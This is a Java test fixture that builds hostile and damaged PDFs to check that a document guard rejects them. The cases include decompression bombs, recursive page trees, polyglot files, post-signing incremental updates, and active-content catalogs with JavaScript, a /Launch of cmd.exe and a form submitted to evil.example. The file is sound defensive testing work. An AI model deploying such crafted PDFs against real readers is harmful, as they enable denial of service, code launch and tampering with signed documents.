package io.countersign.abuse;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import io.countersign.document.TestPdfs;

import static io.countersign.document.TestPdfs.ascii;
import static io.countersign.document.TestPdfs.onePage;
import static io.countersign.document.TestPdfs.raw;
import static io.countersign.document.TestPdfs.stream;

/**
 * PDFs made to break what reads them. The single limits of the guard have tests of their
 * own; here is breadth.
 */
final class PdfCases {

	private static final byte[] EMPTY_PAGE = stream("", ascii("BT ET"));

	private final byte[] form;

	private final List<Case> cases = new ArrayList<>();

	private PdfCases(byte[] form) {
		this.form = form;
	}

	/**
	 * Cases that have to be refused.
	 * @param form a regular PDF, for what is derived from one
	 */
	static List<Case> hostile(byte[] form) {
		PdfCases cases = new PdfCases(form);
		cases.cutOff();
		cases.ofOtherKinds();
		cases.manyKindsAtOnce();
		cases.crossReferences();
		cases.pageTrees();
		cases.bombs();
		cases.nesting();
		cases.active();
		cases.encrypted();
		return cases.cases;
	}

	/** Cases that may be read or refused, but in good time. */
	static List<Case> damaged(byte[] form) {
		PdfCases cases = new PdfCases(form);
		cases.damage();
		cases.heavyContents();
		cases.changedLater();
		return cases.cases;
	}

	private void add(String name, byte[] bytes) {
		this.cases.add(new Case(name, bytes));
	}

	private void cutOff() {
		for (int i = 0; i < 50; i++) {
			add("cut off after %d/50".formatted(i), Arrays.copyOf(this.form, this.form.length * i / 50));
		}
	}

	private void ofOtherKinds() {
		Map<String, String> starts = new LinkedHashMap<>();
		starts.put("GIF", "GIF89a");
		starts.put("PNG", "\u0089PNG\r\n\u001a\n");
		starts.put("JPEG", "\u00ff\u00d8\u00ff\u00e0");
		starts.put("program", "MZ\u0090\u0000");
		starts.put("ELF", "\u007fELF");
		starts.put("HTML", "<!DOCTYPE html><script>alert(1)</script>");
		starts.put("XML", "<?xml version=\"1.0\"?><x/>");
		starts.put("PostScript", "%!PS-Adobe-3.0");
		starts.put("RTF", "{\\rtf1");
		starts.put("old Office", "\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1");
		starts.put("FDF", "%FDF-1.2\n1 0 obj\n<< /FDF << >> >>\nendobj\n");
		starts.put("a blank", " %PDF-1.7");
		starts.put("a line", "\n%PDF-1.7");
		starts.put("a byte order mark", "\u00ef\u00bb\u00bf%PDF-1.7");
		starts.put("small letters", "%pdf-1.7");
		starts.put("no hyphen", "%PDF 1.7");
		starts.put("the mark alone", "%PDF-");
		starts.put("the mark and the end", "%PDF-1.7\n%%EOF");
		starts.put("a negative version", "%PDF--1\n%%EOF");
		starts.forEach((name, start) -> add("starts as " + name, ascii(start)));
		starts.entrySet()
			.stream()
			.limit(4)
			.forEach((start) -> add("a PDF behind " + start.getKey(), join(ascii(start.getValue()), this.form)));
	}

	private void manyKindsAtOnce() {
		byte[] zip = zip("evil.exe", ascii("MZ"));
		add("a ZIP behind", join(this.form, zip));
		add("a ZIP in front", join(zip, this.form));
		add("a page behind", join(this.form, ascii("<html><script>alert(1)</script></html>")));
		add("a program behind", join(this.form, ascii("MZ"), new byte[100_000]));
		add("a Java archive behind", join(this.form, zip("META-INF/MANIFEST.MF", ascii("Main-Class: X\n"))));
	}

	private void crossReferences() {
		String pdf = new String(onePage(EMPTY_PAGE), StandardCharsets.ISO_8859_1);
		int table = pdf.lastIndexOf("xref\n0");
		for (String address : List.of("0", "-1", "1", "999999999999", "99999999999999999999999", "x", "", "9")) {
			add("a table said to be at '%s'".formatted(address),
					ascii(pdf.replaceFirst("startxref\n\\d+", "startxref\n" + address)));
		}
		add("a table that names itself as the one before", ascii(pdf.replace("/Root", "/Prev " + table + " /Root")));
		add("a table before at the end", ascii(pdf.replace("/Root", "/Prev 99999999 /Root")));
		add("a table stream that is the table", ascii(pdf.replace("/Root", "/XRefStm " + table + " /Root")));
		add("objects beyond any number said", ascii(pdf.replaceFirst("xref\n0 \\d+", "xref\n0 99999999999999999999")));
		add("a negative number of objects said", ascii(pdf.replaceFirst("xref\n0 \\d+", "xref\n0 -4")));
		add("no root", ascii(pdf.replace("/Root 1 0 R", "")));
		add("a root that is no object", ascii(pdf.replace("/Root 1 0 R", "/Root 99 0 R")));
		add("a root that is its own page", ascii(pdf.replace("/Root 1 0 R", "/Root 3 0 R")));
		add("every object at the place of the first", ascii(pdf.replaceAll("\\d{10} 00000 n", "0000000009 00000 n")));
		add("every object free", ascii(pdf.replace(" n ", " f ")));
		add("no end mark", ascii(pdf.replace("%%EOF\n", "")));
		add("no table", ascii(pdf.substring(0, table)));
	}

	private void pageTrees() {
		add("a page tree that is its own child", raw(catalog(), ascii("<< /Type /Pages /Count 1 /Kids [2 0 R] >>")));
		add("two page trees that hold each other", raw(catalog(), ascii("<< /Type /Pages /Count 1 /Kids [3 0 R] >>"),
				ascii("<< /Type /Pages /Count 1 /Kids [2 0 R] >>")));
		add("no pages", raw(catalog(), ascii("<< /Type /Pages /Count 0 /Kids [] >>")));
		add("no page tree", raw(ascii("<< /Type /Catalog >>")));
		add("children that are numbers", raw(catalog(), ascii("<< /Type /Pages /Count 3 /Kids [1 2 3] >>")));
		add("100,000 times the same page",
				raw(catalog(), ascii("<< /Type /Pages /Count 100000 /Kids [" + "3 0 R ".repeat(100_000) + "] >>"),
						ascii("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>")));
		add("2,000,000,000 pages said", raw(catalog(), ascii("<< /Type /Pages /Count 2000000000 /Kids [3 0 R] >>"),
				ascii("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>")));
		for (int depth : new int[] { 1_000, 20_000 }) {
			byte[][] bodies = new byte[depth + 2][];
			bodies[0] = catalog();
			for (int i = 1; i <= depth; i++) {
				bodies[i] = ascii("<< /Type /Pages /Count 1 /Kids [%d 0 R] >>".formatted(i + 2));
			}
			bodies[depth + 1] = ascii("<< /Type /Page /MediaBox [0 0 9 9] >>");
			add("page trees %,d deep".formatted(depth), raw(bodies));
		}
		byte[][] doubled = new byte[32][];
		doubled[0] = catalog();
		for (int i = 1; i < 31; i++) {
			doubled[i] = ascii(
					"<< /Type /Pages /Count %d /Kids [%d 0 R %d 0 R] >>".formatted(1 << (31 - i), i + 2, i + 2));
		}
		doubled[31] = ascii("<< /Type /Page /MediaBox [0 0 9 9] >>");
		add("a page tree that doubles thirty times", raw(doubled));
	}

	private static byte[] catalog() {
		return ascii("<< /Type /Catalog /Pages 2 0 R >>");
	}

	private void bombs() {
		for (int megabytes : new int[] { 9, 64, 300 }) {
			add("a page of %d MB unpacked".formatted(megabytes),
					onePage(stream("/Filter /FlateDecode", deflated(megabytes << 20))));
		}
		add("packed twice", onePage(stream("/Filter [/FlateDecode /FlateDecode]", deflated(deflated(64 << 20)))));
		add("packed a hundred times",
				onePage(stream("/Filter [" + "/FlateDecode ".repeat(100) + "]", deflated(1 << 20))));
		add("packed as hexadecimal and twice more",
				onePage(stream("/Filter [/ASCIIHexDecode /FlateDecode /LZWDecode]", ascii("00>"))));
		add("rows of 2,000,000,000 columns",
				onePage(stream("/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 2000000000 >>",
						deflated(1 << 16))));
		add("rows of a negative number of columns", onePage(
				stream("/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns -5 >>", deflated(1 << 16))));
		add("a stream of objects that unpacks to 64 MB", onePage(EMPTY_PAGE,
				stream("/Type /ObjStm /N 1000000 /First 8 /Filter /FlateDecode", deflated(64 << 20))));
		add("a stream without end", onePage(ascii("<< /Length 5 >>\nstream\nBT ET")));
		add("a stream whose length is itself", onePage(ascii("<< /Length 4 0 R >>\nstream\nBT ET\nendstream")));
	}

	private void nesting() {
		for (int depth : new int[] { 1_000, 10_000, 100_000 }) {
			add("lists %,d deep".formatted(depth), onePage("/X " + "[".repeat(depth) + "]".repeat(depth), EMPTY_PAGE));
			add("dictionaries %,d deep".formatted(depth),
					onePage("/X " + "<< /A ".repeat(depth) + "1" + " >>".repeat(depth), EMPTY_PAGE));
		}
		add("a list left open 100,000 times", onePage("/X " + "[".repeat(100_000), EMPTY_PAGE));
		add("a text in brackets 100,000 deep, left open", onePage("/X " + "(".repeat(100_000), EMPTY_PAGE));
	}

	private void active() {
		Map<String, String> catalogs = new LinkedHashMap<>();
		catalogs.put("script on opening", "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>");
		catalogs.put("script with an escaped name", "/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>");
		catalogs.put("script under escaped keys", "/Open#41ction << /#53 /JavaScript /#4aS (app.alert(1)) >>");
		catalogs.put("script by reference", "/OpenAction 5 0 R");
		catalogs.put("script behind a jump", "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>");
		catalogs.put("script before closing", "/AA << /WC << /S /JavaScript /JS (1) >> >>");
		catalogs.put("scripts by name", "/Names << /JavaScript << /Names [(a) 5 0 R] >> >>");
		catalogs.put("a program to start", "/OpenAction << /S /Launch /F (cmd.exe) >>");
		catalogs.put("a form that sends itself", "/OpenAction << /S /SubmitForm /F (http://evil.example) >>");
		catalogs.put("data to import", "/OpenAction << /S /ImportData /F (x.fdf) >>");
		catalogs.put("another file to open", "/OpenAction << /S /GoToE /F (x.pdf) >>");
		catalogs.put("files inside",
				"/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>] >> >>");
		catalogs.put("a collection", "/Collection << /View /D >> /Names << /EmbeddedFiles << /Names [] >> >>");
		catalogs.put("XFA", "/AcroForm << /XFA 5 0 R /Fields [] >>");
		catalogs.put("XFA in parts", "/AcroForm << /XFA [(a) 5 0 R] /Fields [] >>");
		catalogs.forEach((name, catalog) -> add(name,
				onePage(catalog, EMPTY_PAGE, ascii("<< /S /JavaScript /JS (app.alert(1)) >>"))));
		for (String annotation : List.of("/Subtype /Link /A << /S /Launch /F (cmd.exe) >>",
				"/Subtype /Link /A << /S /JavaScript /JS (1) >>", "/Subtype /RichMedia /RichMediaContent << >>",
				"/Subtype /FileAttachment /FS << /F (a.exe) >>", "/Subtype /Screen /A << /S /Rendition /JS (1) >>",
				"/Subtype /Widget /FT /Tx /AA << /K << /S /JavaScript /JS (1) >> >>", "/Subtype /Movie /Movie << >>",
				"/Subtype /3D /3DD << >>")) {
			add("an annotation " + annotation, raw(catalog(), ascii("<< /Type /Pages /Count 1 /Kids [3 0 R] >>"), ascii(
					"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Annots [<< /Type /Annot /Rect [0 0 9 9] %s >>] >>"
						.formatted(annotation))));
		}
	}

	private void encrypted() {
		for (String handler : List.of("/Filter /Standard /V 1 /R 2 /P -4 /O (%s) /U (%s)",
				"/Filter /Standard /V 4 /R 4 /P -4 /O (%s) /U (%s) /CF << /StdCF << /CFM /AESV2 >> >> /StmF /StdCF",
				"/Filter /Standard /V 5 /R 6 /P -4 /O (%s) /U (%s)", "/Filter /Adobe.PubSec /V 1 /O (%s) /U (%s)",
				"/Filter /NoSuchHandler /O (%s) /U (%s)")) {
			String thirtyTwo = "x".repeat(32);
			add("encrypted by " + handler,
					raw("/ID [(a) (b)] /Encrypt << " + handler.formatted(thirtyTwo, thirtyTwo) + " >>", catalog(),
							ascii("<< /Type /Pages /Count 1 /Kids [3 0 R] >>"),
							ascii("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>")));
		}
	}

	private void damage() {
		Random random = new Random(20261123);
		for (int i = 0; i < 40; i++) {
			byte[] damaged = this.form.clone();
			for (int hit = 0; hit < 1 + i; hit++) {
				damaged[random.nextInt(damaged.length)] = (byte) random.nextInt();
			}
			add("%d bytes damaged".formatted(1 + i), damaged);
		}
	}

	private void heavyContents() {
		Map<String, String> contents = new LinkedHashMap<>();
		contents.put("states saved without end", "q ".repeat(500_000));
		contents.put("states restored without end", "Q ".repeat(500_000));
		contents.put("texts begun without end", "BT ".repeat(500_000));
		contents.put("lists left open", "[".repeat(100_000));
		contents.put("numbers without end", "1 ".repeat(1_000_000));
		contents.put("a number of a million digits", "9".repeat(1_000_000) + " w");
		contents.put("unknown words", "xyzzy ".repeat(200_000));
		contents.put("a text left open", "BT (" + "a".repeat(1_000_000));
		contents.put("a picture left open", "BI /W 100000 /H 100000 /BPC 8 /CS /RGB ID " + "a".repeat(10_000));
		contents.put("a font that is not there", "BT /F9 12 Tf (x) Tj ET ".repeat(20_000));
		contents.put("letters of no size", "BT /F1 0 Tf (" + "x".repeat(10_000) + ") Tj ET");
		contents.put("letters of any size", "BT /F1 1e38 Tf 1e38 0 0 1e38 1e38 1e38 Tm (x) Tj ET");
		contents.put("not a number", "NaN Infinity -Infinity 1e400 0 0 cm BT (x) Tj ET");
		contents.put("every byte", allBytes().repeat(2_000));
		contents.forEach((name, content) -> add(name,
				onePage(stream("/Filter /FlateDecode", deflated(content.getBytes(StandardCharsets.ISO_8859_1))))));
		byte[][] forms = new byte[30][];
		for (int i = 0; i < forms.length; i++) {
			forms[i] = stream("/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X %d 0 R >> >>"
				.formatted(6 + Math.min(i, forms.length - 2)), ascii("/X Do /X Do"));
		}
		add("forms that draw each other twice, thirty deep", TestPdfs.drawing(5, forms));
		add("a stream that says it is longer than the file",
				onePage(ascii("<< /Length 999999999 >>\nstream\nBT ET\nendstream")));
		add("a page that is its own parent", raw(catalog(), ascii("<< /Type /Pages /Count 1 /Kids [3 0 R] >>"),
				ascii("<< /Type /Page /Parent 3 0 R /Contents 4 0 R >>"), EMPTY_PAGE));
		add("a form that draws itself",
				TestPdfs.drawing(5,
						stream("/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>",
								ascii("/X Do"))));
		add("a page as large as allowed by nobody", raw(catalog(), ascii("<< /Type /Pages /Count 1 /Kids [3 0 R] >>"),
				ascii("<< /Type /Page /Parent 2 0 R /MediaBox [-1e30 -1e30 1e30 1e30] /UserUnit 1e9 /Rotate 77 /Contents 4 0 R >>"),
				EMPTY_PAGE));
		add("a page whose size is a word", raw(catalog(), ascii("<< /Type /Pages /Count 1 /Kids [3 0 R] >>"),
				ascii("<< /Type /Page /Parent 2 0 R /MediaBox /A4 /Contents [4 0 R 4 0 R (x) null] >>"), EMPTY_PAGE));
	}

	/** What somebody may add behind a document that was signed. */
	private void changedLater() {
		String pdf = new String(onePage(EMPTY_PAGE), StandardCharsets.ISO_8859_1);
		int table = pdf.lastIndexOf("xref\n0");
		String update = "4 0 obj\n<< /Length 20 >>\nstream\nBT (another sum) Tj ET\nendstream\nendobj\n";
		int object = pdf.length();
		int second = object + update.length();
		add("a table before at a negative place", ascii(pdf.replace("/Root", "/Prev -5 /Root")));
		add("2,000,000,000 objects said", ascii(pdf.replaceFirst("xref\n0 \\d+", "xref\n0 2000000000")));
		add("a page replaced by a later part", ascii(pdf + update
				+ "xref\n4 1\n%010d 00000 n \ntrailer\n<< /Size 5 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
					.formatted(object, table, second)));
		add("a later part that changes nothing",
				ascii(pdf + "xref\n0 0\ntrailer\n<< /Size 5 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
					.formatted(table, pdf.length())));
		add("a page deleted by a later part", ascii(pdf
				+ "xref\n3 1\n0000000000 00001 f \ntrailer\n<< /Size 5 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
					.formatted(table, pdf.length())));
	}

	private static String allBytes() {
		StringBuilder all = new StringBuilder();
		for (int i = 0; i < 256; i++) {
			all.append((char) i);
		}
		return all.toString();
	}

	private static byte[] deflated(int blanks) {
		byte[] block = new byte[1 << 16];
		Arrays.fill(block, (byte) ' ');
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (DeflaterOutputStream deflater = new DeflaterOutputStream(out, new Deflater(Deflater.BEST_COMPRESSION))) {
			for (int left = blanks; left > 0; left -= block.length) {
				deflater.write(block, 0, Math.min(left, block.length));
			}
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toByteArray();
	}

	private static byte[] deflated(byte[] content) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (DeflaterOutputStream deflater = new DeflaterOutputStream(out)) {
			deflater.write(content);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toByteArray();
	}

	private static byte[] zip(String name, byte[] content) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(out)) {
			zip.putNextEntry(new ZipEntry(name));
			zip.write(content);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toByteArray();
	}

	private static byte[] join(byte[]... parts) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		for (byte[] part : parts) {
			out.writeBytes(part);
		}
		return out.toByteArray();
	}

}
